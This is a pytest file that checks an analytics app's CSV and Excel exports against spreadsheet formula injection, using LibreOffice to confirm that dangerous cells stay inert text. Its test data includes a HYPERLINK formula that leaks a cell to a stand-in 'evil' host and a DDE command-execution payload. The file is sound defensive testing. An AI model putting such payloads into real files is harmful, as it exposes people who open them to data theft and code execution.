"""Exports read back by a real spreadsheet: LibreOffice (headless ``soffice --convert-to``) opens what the app
hands out, and what it shows is the data, not a formula and not a changed value.

The CSV is imported with formula evaluation on (the worst case for a person who double-clicks the file); a
positive control checks that the same import does run an unprotected formula, so the test can fail.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dallosh import analytics as an

#: comma, double quote, UTF-8, from line 1, …, evaluate formulas (token 13).
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true"
#: comma, double quote, UTF-8, line 1, …, cells as shown (token 9): what a person reads in the sheet.
CSV_EXPORT = "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,true"

#: Cells a spreadsheet runs (``-2+3``: Excel computes it, LibreOffice shows it; protected for both).
RUN = ["=1+1", '=HYPERLINK("http://evil/?"&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
SHOWN = ["@Freebox ça ne marche plus 😡", "a=b", "Réseau coupé depuis 3 jours", "'déjà du texte"]


@pytest.fixture(scope="module")
def soffice(tmp_path_factory) -> list[str]:
    binary = shutil.which("soffice")
    assert binary, "LibreOffice is missing: `./run test` installs it (Debian package libreoffice-calc-nogui)"
    profile = tmp_path_factory.mktemp("lo-profile")  # a profile of its own: no lock shared with another run
    return [binary, f"-env:UserInstallation=file://{profile}", "--headless"]


def convert(soffice: list[str], source: Path, target: str, infilter: str | None = None) -> Path:
    """``source`` opened by LibreOffice and saved as ``target`` (a filter), in a folder of its own."""
    out = source.parent / f"{source.suffix[1:]}-as-{target.split(':')[0]}"
    command = [*soffice, *(["--infilter=" + infilter] if infilter else []), "--convert-to", target,
               "--outdir", str(out), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    converted = list(out.iterdir())
    assert len(converted) == 1, converted
    return converted[0]


def frame() -> pd.DataFrame:
    texts = RUN + SHOWN
    rows = {
        "id": [str(1_962_404_500_417_282_000 + i) for i in range(len(texts))],
        "created_at": ["2025-09-01 10:00:00", "2025-01-15 23:30:00"] + ["2025-09-02 08:15:00"] * (len(texts) - 2),
        "full_text": texts,
        "engagement": [str(i * 3) for i in range(len(texts))],
        "sentiment": ["negative"] * len(texts),
        "priority": ["2"] * len(texts),
        "main_topic": ["Réseau"] * len(texts),
    }
    return an.load_analysed(pd.DataFrame(rows, dtype="str"))


def test_a_csv_export_opens_as_its_data_and_runs_no_formula(soffice, tmp_path):
    df = frame()
    exported = tmp_path / "tweets.csv"
    exported.write_bytes(an.to_csv_bytes(df, tz="Europe/Paris"))
    sheet = openpyxl.load_workbook(convert(soffice, exported, "xlsx", CSV_IMPORT)).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("full_text")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells), [(c.value, c.data_type) for c in cells]
    # What a spreadsheet would run is shown behind an apostrophe; everything else exactly as written.
    assert [c.value for c in cells] == ["'" + t for t in RUN] + SHOWN
    # The file keeps all 19 digits of an id; a spreadsheet reads such a number as a float (1.96E+18) whatever
    # the CSV says, which is why the Excel export stores ids as text cells (checked below).
    with exported.open(newline="", encoding="utf-8-sig") as handle:
        assert next(csv.DictReader(handle))["id"] == "1962404500417282000"
    dates = [row[header.index("created_at")].value for row in sheet.iter_rows(min_row=2)]
    assert dates[:2] == ["2025-09-01 12:00:00+02:00", "2025-01-16 00:30:00+01:00"]  # Paris time, offset kept


def test_the_import_would_run_an_unprotected_formula(soffice, tmp_path):
    """Positive control: the same import evaluates ``=1+1`` when nothing protects it."""
    plain = tmp_path / "plain.csv"
    with plain.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["full_text"], ["=1+1"]])
    sheet = openpyxl.load_workbook(convert(soffice, plain, "xlsx", CSV_IMPORT)).active
    assert sheet["A2"].data_type == "f" and sheet["A2"].value == "=1+1"


def test_an_xlsx_export_shows_text_dates_and_numbers_as_the_app_does(soffice, tmp_path):
    df = frame()
    exported = tmp_path / "tweets.xlsx"
    exported.write_bytes(an.to_xlsx_bytes(df, tz="Europe/Paris"))
    shown = convert(soffice, exported, CSV_EXPORT)
    with shown.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["full_text"] for r in rows] == RUN + SHOWN  # text cells: no prefix, nothing run
    assert rows[0]["created_at"] == "2025-09-01 12:00:00" and rows[1]["created_at"] == "2025-01-16 00:30:00"
    assert [r["engagement"] for r in rows] == [str(i * 3) for i in range(len(rows))]
    assert rows[0]["id"] == "1962404500417282000"
    # And typed: the workbook LibreOffice saves back holds a date cell and a number cell.
    sheet = openpyxl.load_workbook(convert(soffice, exported, "xlsx")).active
    header = [c.value for c in sheet[1]]
    assert sheet.cell(2, header.index("created_at") + 1).value == datetime(2025, 9, 1, 12, 0)
    assert sheet.cell(2, header.index("engagement") + 1).data_type == "n"
